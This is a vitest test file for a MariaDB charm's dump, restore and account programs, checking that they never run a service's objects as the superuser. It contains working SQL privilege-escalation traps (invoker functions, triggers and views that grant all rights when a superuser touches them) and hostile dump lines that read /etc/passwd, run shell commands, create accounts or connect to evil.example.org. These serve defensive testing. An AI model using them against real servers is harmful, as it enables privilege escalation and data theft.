import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type MariaDb, charmFolder, startMariaDb } from './mariadb.js';

let db: MariaDb;
let folder: string;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'mysql-'));
  db = await startMariaDb();
  db.createAccount('shop');
  db.createAccount('other');
});
afterAll(async () => {
  await db.stop();
  rmSync(folder, { recursive: true });
});

/** Runs a program that has to end well; its output. */
function charm(program: string, args: readonly string[] = [], input = ''): string {
  const { status, stdout, stderr } = db.charm(program, args, input);
  if (status !== 0) throw new Error(`${program}: ${stderr}`);
  return stdout;
}
function fileOf(name: string, text: string): string {
  const file = join(folder, name);
  writeFileSync(file, text);
  return file;
}
const ours = () => db.sql(`SELECT User FROM mysql.global_priv WHERE User LIKE 'myc-%'`);

/** A service's functions that note down who runs them, and take every right on the server where that is a superuser. */
const traps = `
CREATE TABLE seen (who varchar(200)) ENGINE=MyISAM;
CREATE TABLE t (n int, s varchar(20));
INSERT INTO t VALUES (1, 'a');
DELIMITER //
CREATE FUNCTION f() RETURNS varchar(20) DETERMINISTIC SQL SECURITY INVOKER BEGIN
  DECLARE CONTINUE HANDLER FOR SQLEXCEPTION BEGIN END;
  INSERT INTO shop.seen VALUES (current_user());
  UPDATE mysql.global_priv SET Priv = json_set(Priv, '$.access', 18446744073709551615) WHERE User = 'shop';
  RETURN 'x';
END//
CREATE FUNCTION g() RETURNS int DETERMINISTIC SQL SECURITY INVOKER RETURN length(f())//
CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW SET NEW.s = f()//
DELIMITER ;
CREATE SQL SECURITY INVOKER VIEW v1 AS SELECT f() AS a, 'x' RLIKE f() AS b FROM t;
CREATE SQL SECURITY INVOKER VIEW v2 AS SELECT n IN (g(), 2) AS a, round(1.234, g()) AS b, substr('abc', g()) AS c,
  rpad('a', g(), f()) AS d, repeat('a', g()) AS e, date_format(now(), f()) AS f, s LIKE 'x' AS g FROM t;
CREATE SQL SECURITY INVOKER VIEW v3 AS SELECT * FROM (SELECT f() AS a LIMIT 1) AS d;
CREATE SQL SECURITY INVOKER VIEW v4 AS WITH RECURSIVE c AS (SELECT g() AS n UNION ALL SELECT n + g() FROM c WHERE n < 3) SELECT * FROM c;
`;
/** One of everything that a database can hold. */
const everything = `
CREATE TABLE t (n int PRIMARY KEY, bits blob, many text);
INSERT INTO t SELECT seq, char(seq % 256), concat('row ', seq, '\\n', "'quoted'") FROM seq_1_to_300;
CREATE SEQUENCE s;
CREATE FUNCTION twice(x int) RETURNS int DETERMINISTIC SQL SECURITY INVOKER RETURN 2 * x;
CREATE FUNCTION thrice(x int) RETURNS int DETERMINISTIC RETURN 3 * x;
CREATE PROCEDURE p() SELECT current_user();
CREATE SQL SECURITY INVOKER VIEW v1 AS SELECT n IN (twice(1), 3) AS a, thrice(n) AS b FROM t;
CREATE VIEW v2 AS SELECT twice(n) AS a, v1.b FROM t JOIN v1 ON b = 3 * n;
CREATE TRIGGER tr BEFORE UPDATE ON t FOR EACH ROW SET NEW.many = upper(NEW.many);
CREATE EVENT e ON SCHEDULE EVERY 1 YEAR DO DELETE FROM t;
`;

describe('what a service may have made is never opened as the superuser', () => {
  beforeEach(() => {
    db.sql('DROP DATABASE IF EXISTS shop; CREATE DATABASE shop');
    db.sql(traps, { user: 'shop', database: 'shop' });
    db.sql('TRUNCATE shop.seen');
  });

  test('the traps work: a superuser who asks for the sizes of tables is one', () => {
    db.sql('SELECT sum(data_length) FROM information_schema.tables');
    expect(db.sql('SELECT DISTINCT who FROM shop.seen')).toBe('root@localhost');
    db.sql(
      `UPDATE mysql.global_priv SET Priv = json_set(Priv, '$.access', 0) WHERE User = 'shop'; FLUSH PRIVILEGES`,
    );
  });

  const programs: readonly [string, readonly string[]][] = [
    ['dumps/list', []],
    ['dumps/holds', ['shop']],
    ['dumps/dump', ['shop']],
    ['dumps/accounts', []],
    ['actions/ls', []],
    ['actions/dump', ['shop']],
    ['actions/load', ['shop']],
    ['actions/rm', ['shop']],
  ];
  /** They put what they are given in the place of a database; see below. */
  const others = ['dumps/check', 'dumps/restore', 'dumps/restore-accounts'];

  test('every program of the charm is among those that meet the traps', () => {
    const found = ['dumps', 'actions'].flatMap((kind) =>
      readdirSync(join(charmFolder, kind)).map((name) => `${kind}/${name}`),
    );
    expect([...programs.map(([program]) => program), ...others].sort()).toEqual(found.sort());
  });

  test.each(programs)('%s', (program, args) => {
    db.sql('CREATE OR REPLACE DATABASE plain; CREATE TABLE plain.t (n int)');
    const dump = program === 'actions/load' ? charm('actions/dump', ['plain']) : '';
    charm(program, args, dump);
    if (!['actions/load', 'actions/rm'].includes(program))
      expect(db.sql(`SELECT count(*) FROM shop.seen WHERE who NOT LIKE 'shop@%'`)).toBe('0');
    expect(
      db.sql(`SELECT DISTINCT json_value(Priv, '$.access') FROM mysql.global_priv WHERE User = 'shop'`),
    ).toBe('0');
    expect(ours()).toBe('');
  });
});

describe('dumps', () => {
  test('are what the superuser’s would be', () => {
    db.sql('DROP DATABASE IF EXISTS other; CREATE DATABASE other');
    db.sql(everything, { user: 'other', database: 'other' });
    const [first, second, ...dump] = charm('dumps/dump', ['other']).split('\n');
    expect(first).toMatch(/^-- of a database sorted by \w+$/);
    expect(second).toBe('-- defined by ["other@%"]');
    expect(undated(dump.join('\n'))).toBe(undated(db.dump('other')));
  });

  test('two at once leave each other alone, and what a killed one left goes with the next', async () => {
    db.sql(`CREATE USER \`myc-reader-0123456789ab\`@localhost; UPDATE mysql.global_priv
      SET Priv = json_set(Priv, '$.password_last_changed', 1) WHERE User LIKE 'myc-reader-%'; FLUSH PRIVILEGES`);
    const both = await Promise.all([0, 1].map(() => db.charmLater('dumps/dump', ['other'])));
    expect(both.map(({ status }) => status)).toEqual([0, 0]);
    expect(ours()).toBe('');
  });
});

describe('a recovery', () => {
  const kept = () => db.sql(`SELECT Priv FROM mysql.global_priv WHERE User = 'other'`);
  const definers = (database: string) =>
    db.sql(`SELECT DISTINCT definer FROM (SELECT definer FROM information_schema.views WHERE table_schema = '${database}'
      UNION SELECT definer FROM information_schema.routines WHERE routine_schema = '${database}'
      UNION SELECT definer FROM information_schema.triggers WHERE trigger_schema = '${database}'
      UNION SELECT definer FROM information_schema.events WHERE event_schema = '${database}') AS d ORDER BY 1`);
  let dump: string;
  const restore = (text: string, database = 'other') =>
    db.charm('dumps/restore', [database, fileOf('dump', text)]);

  beforeAll(() => {
    db.sql('DROP DATABASE IF EXISTS other; CREATE DATABASE other');
    db.sql(everything, { user: 'other', database: 'other' });
    dump = charm('dumps/dump', ['other']);
  });
  beforeEach(() => db.sql('CREATE OR REPLACE DATABASE other'));

  test('brings a database back as the account that owned it, which keeps its password', () => {
    db.sql(
      `CREATE OR REPLACE USER reader@'10.%' IDENTIFIED BY 'x'; GRANT SELECT ON other.* TO reader@'10.%'`,
    );
    const before = kept();
    const restored = restore(dump);
    expect(restored, restored.stderr).toMatchObject({ status: 0, stderr: '' });
    expect(undated(charm('dumps/dump', ['other']))).toBe(undated(dump));
    expect(definers('other')).toBe('other@%');
    expect(kept()).toBe(before);
    expect(db.sql('SELECT a, b FROM v2 WHERE b = 9', { user: 'other', database: 'other' })).toBe('6\t9');
    expect(ours()).toBe('');
  });

  test('of a dump of an older version has the account of the database’s name own it', () => {
    const [collation, , ...rest] = dump.split('\n');
    expect(restore([collation, ...rest].join('\n')).status).toBe(0);
    expect(definers('other')).toBe('other@%');
  });

  test.each([
    ['of the superuser', '-- defined by ["root@localhost"]'],
    ['of an account that is gone', '-- defined by ["gone@%"]'],
    ['of several accounts', '-- defined by ["other@%", "shop@%"]'],
    ['of an account with fewer rights', '-- defined by ["shop@%"]'],
    ['of who knows whom', `-- defined by ["other' OR '1@%"]`],
  ])('gives what was %s to an account that has this database only, and says so', (_what, line) => {
    const { status, stdout, stderr } = restore(dump.replace(/^-- defined by .*$/m, line));
    expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
    expect(stdout).toContain('now myc-owner-other, which has rights on other only and cannot log in');
    expect(definers('other')).toBe('myc-owner-other@localhost');
    expect(db.sql('CALL p()', { user: 'other', database: 'other' })).toBe('myc-owner-other@localhost');
    expect(db.sql('SELECT a, b FROM v2 WHERE b = 9', { user: 'other', database: 'other' })).toBe('6\t9');
    expect(db.sql('SHOW CREATE USER `myc-owner-other`@localhost')).toContain('ACCOUNT LOCK');
    // The next backup and recovery of it end the same, and the account goes with the database.
    expect(charm('dumps/accounts')).not.toContain(Buffer.from('myc-owner-other').toString('base64'));
    expect(restore(charm('dumps/dump', ['other'])).status).toBe(0);
    expect(definers('other')).toBe('myc-owner-other@localhost');
    charm('actions/rm', ['other']);
    expect(ours()).toBe('');
  });

  test.each([
    ['runs as the superuser', '/*!50003 CREATE */ DEFINER = root@localhost PROCEDURE x() SELECT 1;'],
    [
      'has a view of the superuser’s',
      'CREATE DEFINER\n= `root`@`localhost` VIEW x AS SELECT * FROM mysql.global_priv;',
    ],
    ['reads another database', 'CREATE TABLE x AS SELECT * FROM shop.t;'],
    ['writes the server’s accounts', `UPDATE mysql.global_priv SET Priv = '{}';`],
    ['makes an account', `CREATE USER evil IDENTIFIED BY 'x';`],
    ['gives rights', `GRANT ALL ON other.* TO shop@'%';`],
    ['reads a file of the container', `LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE t;`],
    ['reads a file of the server', `LOAD DATA INFILE '/etc/passwd' INTO TABLE t;`],
    ['runs a program', '\\! touch /tmp/evil'],
    ['connects to another server', '\\r other evil.example.org'],
    ['sets what all sessions get', 'SET GLOBAL sql_mode = "";'],
  ])('ends where a dump %s', (_what, line) => {
    db.sql('CREATE DATABASE IF NOT EXISTS shop; CREATE TABLE IF NOT EXISTS shop.t (n int, s varchar(20))');
    const before = [kept(), db.sql('SELECT User, Host, Priv FROM mysql.global_priv ORDER BY 1, 2')];
    for (const definer of ['other@%', 'root@localhost']) {
      const [collation, , ...rest] = dump.split('\n');
      const evil = [collation, `-- defined by ["${definer}"]`, ...rest];
      evil.splice(-3, 0, line);
      const { status, stderr } = restore(evil.join('\n'));
      expect(status, stderr).not.toBe(0);
      db.sql('DROP USER IF EXISTS `myc-owner-other`@localhost');
      expect([kept(), db.sql('SELECT User, Host, Priv FROM mysql.global_priv ORDER BY 1, 2')]).toEqual(
        before,
      );
    }
  });

  test('killed while it loads, the next run gives the account its password back and begins anew', async () => {
    const accounts = fileOf('accounts.json', charm('dumps/accounts'));
    const before = kept();
    const slow = dump.replace(/^-- Dump completed/m, 'SELECT sleep(60);\n-- Dump completed');
    const killed = db.charmLater('dumps/restore', ['other', fileOf('slow', slow)]);
    while (kept() === before) await new Promise((resolve) => setTimeout(resolve, 50));
    killed.kill();
    charm('dumps/restore-accounts', [accounts, '100000', 'other', 'shop']);
    expect(JSON.parse(kept())).toMatchObject({ authentication_string: passwordOf(before) });
    expect(restore(dump).status).toBe(0);
    // What the server was still at does not write into the new one.
    expect(db.sql(`SELECT count(*) FROM information_schema.processlist WHERE db = 'other'`)).toBe('0');
    expect(undated(charm('dumps/dump', ['other']))).toBe(undated(dump));
  });

  test('of a dump that was cut off, or that holds less than it says, ends', () => {
    expect(restore(dump.slice(0, dump.length / 2)).stderr).toContain('the dump was cut off');
    const less = dump.replace(
      /^-- Dump completed/m,
      'DROP VIEW v1, v2; DROP TABLE t;\nCREATE TABLE \n-- Dump completed',
    );
    expect(restore(less).status).not.toBe(0);
  });
});

const passwordOf = (priv: string) =>
  (JSON.parse(priv) as { authentication_string: string }).authentication_string;
const undated = (text: string) => text.replace(/^-- Dump completed.*$/m, '');
